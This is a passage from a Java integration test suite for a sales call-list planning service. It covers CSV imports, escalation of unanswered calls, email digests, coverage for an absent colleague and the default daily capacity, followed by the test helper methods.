                seller + "-B,Ben Set,b@" + domain + "," + zone + ",6,MON-SUN,,,MANAGER",
                seller + "-A,Anna Set,a@" + domain + "," + zone + ",2,MON-SUN,," + seller + "-B,SALES",
                seller + "-C,Cleo Away,c@" + domain + "," + zone + ",3,MON-SUN," + seller + "-B,,SALES")).json()
                .getJsonArray("rejected")).isEmpty();
        Api.Reply away = api.asAdmin().put("api/salespeople/" + seller + "-C/absences", "[{\"starts_on\":\"" + today.minusDays(1)
                + "\",\"ends_on\":\"" + today.plusDays(1) + "\"}]");
        assertThat(away.status()).as(away.toString()).isBetween(200, 204);
        List<String> rows = new java.util.ArrayList<>(List.of("external_id,company,time_zone,owner,tier"));
        for (String owner : List.of("A", "B", "C")) {
            for (int i = 1; i <= 3; i++) {
                rows.add(seller + "-" + owner + i + "," + owner + " Customer " + i + "," + zone + "," + seller + "-" + owner + ",TOP10");
            }
        }
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines(rows.toArray(String[]::new))).json().getInt("created"))
                .isEqualTo(9);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        // one of Anna's calls escalated: on her list (held) and on her manager Ben's (to decide), outside the capacity
        long escalated = listOn(api.asAdmin(), seller + "-A", today).getJsonArray("items").getJsonObject(0).getJsonNumber("id")
                .longValue();
        for (int i = 1; i <= 3; i++) {
            assertThat(outcome(api.asAdmin(), escalated, "{\"outcome\":\"NO_ANSWER\"}").status()).isEqualTo(200);
        }
        org.rapport.testing.Salespeople.onlyTheseHaveAnEmail(seller + "-A", seller + "-B", seller + "-C");
        Api.Reply run = api.asAdmin().postJson("api/call-lists/digests/run", "");
        assertThat(run.status()).as(run.toString()).isEqualTo(200);
        assertThat(run.json().getInt("enqueued")).as("A and B; C is away").isEqualTo(2);

        for (String who : List.of("A", "B")) {
            String email = who.toLowerCase() + "@" + domain;
            // Ben also has the manager alert of the escalated call
            org.rapport.testing.Eventually.soon().until(() -> org.rapport.testing.Mailbox.subjects(email).stream()
                    .anyMatch(subject -> subject.startsWith("Your call list for")));
            jakarta.mail.internet.MimeMessage digest = org.rapport.testing.Mailbox.to(email).stream().filter(m -> {
                try {
                    return m.getSubject().startsWith("Your call list for");
                } catch (jakarta.mail.MessagingException e) {
                    throw new IllegalStateException(e);
                }
            }).findFirst().orElseThrow();
            String text = (String) ((jakarta.mail.Multipart) digest.getContent()).getBodyPart(0).getContent();
            List<Long> digested = java.util.regex.Pattern.compile("item (\\d+)").matcher(text).results()
                    .map(m -> Long.parseLong(m.group(1))).toList();
            JsonObject alone = listOn(api.asAdmin(), seller + "-" + who, today);
            List<Long> listed = alone.getJsonArray("items").getValuesAs(JsonObject.class).stream()
                    .map(i -> i.getJsonNumber("id").longValue()).toList();
            assertThat(listed).as(who + "'s list").isNotEmpty();
            assertThat(digested).as(who + "'s digest: " + text).containsExactlyElementsOf(listed);
        }
        assertThat(customers(listOn(api.asAdmin(), seller + "-B", today))).as("B covers C").anyMatch(c -> c.startsWith(seller + "-C"));
        for (String who : List.of("A", "B")) {
            assertThat(listOn(api.asAdmin(), seller + "-" + who, today).getJsonArray("items").getJsonObject(0).getJsonNumber("id")
                    .longValue()).as("the escalated call heads " + who + "'s list").isEqualTo(escalated);
        }
    }

    @Test
    void aSalespersonWithoutCapacityFollowsTheRule() {
        String seller = Csv.unique("nocap");
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,time_zone,working_days",
                seller + ",Nora Nocap,Europe/Berlin,MON-SUN")).json().getJsonArray("rejected")).isEmpty();
        assertThat(api.asAdmin().get("api/salespeople").array().getValuesAs(JsonObject.class).stream()
                .filter(p -> p.getString("external_id").equals(seller)).findFirst().orElseThrow().isNull("daily_capacity"))
                .as("no capacity of their own").isTrue();
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,owner,tier",
                seller + "-1,One,Europe/Berlin," + seller + ",TOP10",
                seller + "-2,Two,Europe/Berlin," + seller + ",TOP10",
                seller + "-3,Three,Europe/Berlin," + seller + ",TOP10",
                seller + "-4,Four,Europe/Berlin," + seller + ",TOP10")).json().getInt("created")).isEqualTo(4);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        LocalDate day = everyDay(LocalDate.now(ZoneId.of("Europe/Berlin")));
        for (int capacity : new int[] {2, 3}) {
            withRules(rules -> jakarta.json.Json.createObjectBuilder(rules).add("capacity",
                    jakarta.json.Json.createObjectBuilder(rules.getJsonObject("capacity")).add("default_daily", capacity)).build(), () -> {
                JsonObject list = listOn(api.asAdmin(), seller, day);
                assertThat(list.getInt("capacity")).isEqualTo(capacity);
                assertThat(list.getJsonArray("items")).hasSize(capacity);
                assertThat(list.getInt("overflow")).isEqualTo(4 - capacity);
            });
        }
    }

    /** A salesperson who works every day, in no holiday region. */
    private String everyDaySeller(String prefix) {
        String seller = Csv.unique(prefix);
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,time_zone,working_days",
                seller + ",Every Day,Europe/Berlin,MON-SUN")).json().getJsonArray("rejected")).isEmpty();
        return seller;
    }

    /** The first day on or after {@code day} that is no company holiday. */
    private LocalDate everyDay(LocalDate day) {
        return new BusinessCalendar(new JollydayHolidays(), companyHolidays())
                .firstWorkingDay(day, EVERY_DAY_ANYWHERE);
    }

    private void visited(String customer, java.time.Instant at) {
        Api.Reply visit = api.asAdmin().postJson("api/touches", "{\"customer\":\"" + customer + "\",\"kind\":\"VISIT\",\"outcome\":"
                + "\"REACHED\",\"occurred_at\":\"" + at + "\"}");
        assertThat(visit.status()).as(visit.toString()).isEqualTo(201);
    }

    /** Three unanswered tries of the customer's call, by its owner: ESCALATED; its id. */
    private long escalate(String owner, String customer) {
        long id = item(list(team.as(owner), owner), customer).getInt("id");
        for (int i = 1; i <= 3; i++) {
            Api.Reply tried = outcome(team.as(owner), id, "{\"outcome\":\"NO_ANSWER\"}");
            assertThat(tried.status()).as(tried.toString()).isEqualTo(200);
            assertThat(tried.json().getString("status")).isEqualTo(i < 3 ? "OPEN" : "ESCALATED");
        }
        return id;
    }

    private String status(long id) {
        return api.asAdmin().get("api/planned-touches?status=ESCALATED&limit=1000").array().getValuesAs(JsonObject.class).stream()
                .filter(t -> t.getInt("id") == id).map(t -> t.getString("status")).findFirst().orElse("not ESCALATED");
    }

    /** A login for the manager of the other team ({@code m2}, who leads c). */
    private String otherManagerLogin() {
        Api.Reply created = api.asAdmin().postJson("api/users", "{\"username\":\"" + team.m2 + "\",\"password\":\"" + Team.PASSWORD
                + "\",\"role\":\"MANAGER\",\"salesperson\":\"" + team.m2 + "\"}");
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        return team.m2;
    }

    /** The text of the manager alert whose link starts with {@code prefix}, or null while none has arrived. */
    private static String alertText(String prefix) throws Exception {
        return alertText("maria@example.com", prefix);
    }

    private static String alertText(String to, String prefix) throws Exception {
        for (jakarta.mail.internet.MimeMessage message : org.rapport.testing.Mailbox.to(to)) {
            String text = (String) ((jakarta.mail.Multipart) message.getContent()).getBodyPart(0).getContent();
            if (text.contains(prefix)) {
                return text;
            }
        }
        return null;
    }

    private JsonObject listOn(String salesperson, LocalDate date) {
        return listOn(team.as(salesperson), salesperson, date);
    }

    private static JsonObject listOn(Api as, String salesperson, LocalDate date) {
        Api.Reply reply = as.get("api/call-lists/" + salesperson + "/" + date);
        assertThat(reply.status()).as(reply.toString()).isEqualTo(200);
        assertThat(reply.json().getBoolean("working_day")).as(date + " is a working day").isTrue();
        return reply.json();
    }

    private static List<String> customers(JsonObject list) {
        return list.getJsonArray("items").getValuesAs(JsonObject.class).stream().map(i -> i.getString("customer")).toList();
    }

    /** The rules of the customer's items on the list, in list order. */
    private static List<String> rules(JsonObject list, String customer) {
        return list.getJsonArray("items").getValuesAs(JsonObject.class).stream().filter(i -> i.getString("customer").equals(customer))
                .map(i -> i.getString("rule")).toList();
    }

    private String path(String salesperson) {
        return "api/call-lists/" + salesperson + "/" + workday;
    }

    private JsonObject list(Api as, String salesperson) {
        Api.Reply reply = as.get(path(salesperson));
        assertThat(reply.status()).as(reply.toString()).isEqualTo(200);
        return reply.json();
    }

    private static JsonObject item(JsonObject list, String customer) {
        return list.getJsonArray("items").getValuesAs(JsonObject.class).stream()
                .filter(i -> i.getString("customer").equals(customer)).findFirst()
                .orElseThrow(() -> new AssertionError(customer + " is not on " + list));
    }

    private static Api.Reply outcome(Api as, long id, String body) {
        return as.postJson("api/call-lists/items/" + id + "/outcome", body);
    }
}
